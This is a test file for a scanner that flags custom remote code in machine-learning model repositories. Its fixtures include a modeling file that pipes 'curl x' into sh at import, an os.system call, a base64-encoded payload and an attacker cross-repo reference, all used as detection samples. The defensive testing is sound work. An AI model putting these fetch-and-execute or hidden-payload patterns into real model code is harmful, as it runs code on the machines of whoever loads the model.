import { describe, expect, it } from "vitest";
import { ruleTester } from "../../helpers/rule-tester.js";
import { findingsOf, scanFiles } from "../../helpers/scan-files.js";

const config = (autoMap: Record<string, unknown>): string => JSON.stringify({ model_type: "x", auto_map: autoMap });
const benignModeling = "import torch\nfrom torch import nn\nfrom .configuration_x import XConfig\n\nclass XModel(nn.Module):\n    def forward(self, x):\n        return x * 2\n";
const benignConfig = "from transformers import PretrainedConfig\n\nclass XConfig(PretrainedConfig):\n    model_type = 'x'\n";

ruleTester("remote-code-required", {
  valid: [{ name: "a config without auto_map", files: { "config.json": JSON.stringify({ model_type: "llama" }) } }],
  invalid: [
    {
      name: "auto_map naming local modules lists them with the relatively imported configuration module",
      files: { "config.json": config({ AutoModel: "modeling_x.XModel" }), "modeling_x.py": benignModeling, "configuration_x.py": benignConfig },
      expect: (f) => {
        expect(f[0]?.message).toContain("modeling_x.py");
        expect(f[0]?.message).toContain("configuration_x.py");
        expect(f[0]?.severity).toBe("low");
      },
    },
    {
      name: "a tokenizer auto_map in the [slow, fast] list form",
      files: { "tokenizer_config.json": JSON.stringify({ auto_map: { AutoTokenizer: ["tokenization_q.QTokenizer", null] } }), "tokenization_q.py": "class QTokenizer: pass\n" },
    },
    {
      name: "a processor config auto_map",
      files: { "preprocessor_config.json": JSON.stringify({ auto_map: { AutoProcessor: "processing_p.PProcessor" } }), "processing_p.py": "class PProcessor: pass\n" },
    },
    {
      name: "custom_pipelines impl",
      files: { "config.json": JSON.stringify({ custom_pipelines: { "text-classification": { impl: "pair_cls.PairPipeline", pt: ["AutoModel"] } } }), "pair_cls.py": "class PairPipeline: pass\n" },
    },
    { name: "Python files that no config references", files: { "handler.py": "def handler(x):\n    return x\n" }, expect: (f) => expect(f[0]?.message).toContain("handler.py") },
  ],
});

ruleTester("remote-code-cross-repo", {
  valid: [{ name: "a local auto_map reference", files: { "config.json": config({ AutoModel: "modeling_x.XModel" }), "modeling_x.py": benignModeling } }],
  invalid: [
    {
      name: "an owner/repo--module.Class reference names the other repo",
      files: { "config.json": config({ AutoModel: "attacker/codes--modeling_x.MyModel" }) },
      expect: (f) => {
        expect(f[0]?.message).toContain("attacker/codes");
        expect(f[0]?.severity).toBe("high");
      },
    },
  ],
});

ruleTester("remote-code-missing-module", {
  valid: [{ name: "the referenced module exists", files: { "config.json": config({ AutoConfig: "configuration_x.XConfig" }), "configuration_x.py": benignConfig } }],
  invalid: [{ name: "the referenced module is absent", files: { "config.json": config({ AutoConfig: "configuration_gone.XConfig" }) } }],
});

ruleTester("remote-code-dangerous-call", {
  valid: [
    { name: "a benign custom architecture", files: { "config.json": config({ AutoModel: "modeling_x.XModel" }), "modeling_x.py": benignModeling, "configuration_x.py": benignConfig } },
    { name: "dangerous calls only in comments and strings", files: { "modeling_y.py": "# os.system('x')\nDOC = 'never eval(input())'\n" } },
  ],
  invalid: [
    {
      name: "a modeling file that spawns a process at import",
      files: { "modeling_x.py": "import subprocess\nsubprocess.Popen(['sh', '-c', 'curl x | sh'])\n" },
      expect: (f) => {
        expect(f[0]?.region?.startLine).toBe(2);
        expect(f[0]?.severity).toBe("high");
        expect(f[0]?.region?.snippet).toContain("subprocess.Popen");
      },
    },
    { name: "environment access is reported at low severity", files: { "modeling_z.py": "import os\nflag = os.environ.get('X')\n" }, expect: (f) => expect(f[0]?.severity).toBe("low") },
    {
      // Qwen's tokenization_qwen.py loads its tiktoken vocabulary this way: a note, not a failure.
      name: "a tiktoken vocabulary decoded from a file is low-severity data decoding",
      files: {
        "tokenization_qwen.py":
          "import base64\n\ndef _load_tiktoken_bpe(tiktoken_bpe_file):\n    with open(tiktoken_bpe_file, 'rb') as f:\n        contents = f.read()\n    return {\n        base64.b64decode(token): int(rank)\n        for token, rank in (line.split() for line in contents.splitlines() if line)\n    }\n",
      },
      expect: (f) => {
        expect(f.map((x) => [x.severity, x.message.split(": ")[1]])).toEqual([["low", "base64.b64decode (data-decoding)"]]);
      },
    },
    {
      name: "an embedded base64 blob is a high-severity payload",
      files: { "modeling_p.py": 'import base64\n_P = "cHJpbnQoJ3B3bmVkJyk="\ncode = base64.b64decode(_P)\n' },
      expect: (f) => expect(f.map((x) => [x.severity, x.message.split(": ")[1]])).toEqual([["high", "base64.b64decode (encoded-payload)"]]),
    },
  ],
});

describe("checklist item 6 with custom code", () => {
  it("needs human review for custom code with no dangerous pattern", async () => {
    const report = await scanFiles({ "config.json": config({ AutoModel: "modeling_x.XModel" }), "modeling_x.py": benignModeling, "configuration_x.py": benignConfig });
    const item = report.checklist.find((i) => i.id === "dependency-scanning");
    expect(item?.status).toBe("review");
    expect(findingsOf(report, "remote-code-dangerous-call")).toEqual([]);
  });

  it("fails when the custom code spawns a process", async () => {
    const report = await scanFiles({ "config.json": config({ AutoModel: "modeling_x.XModel" }), "modeling_x.py": "import os\nos.system('id')\n" });
    expect(report.checklist.find((i) => i.id === "dependency-scanning")?.status).toBe("fail");
  });
});
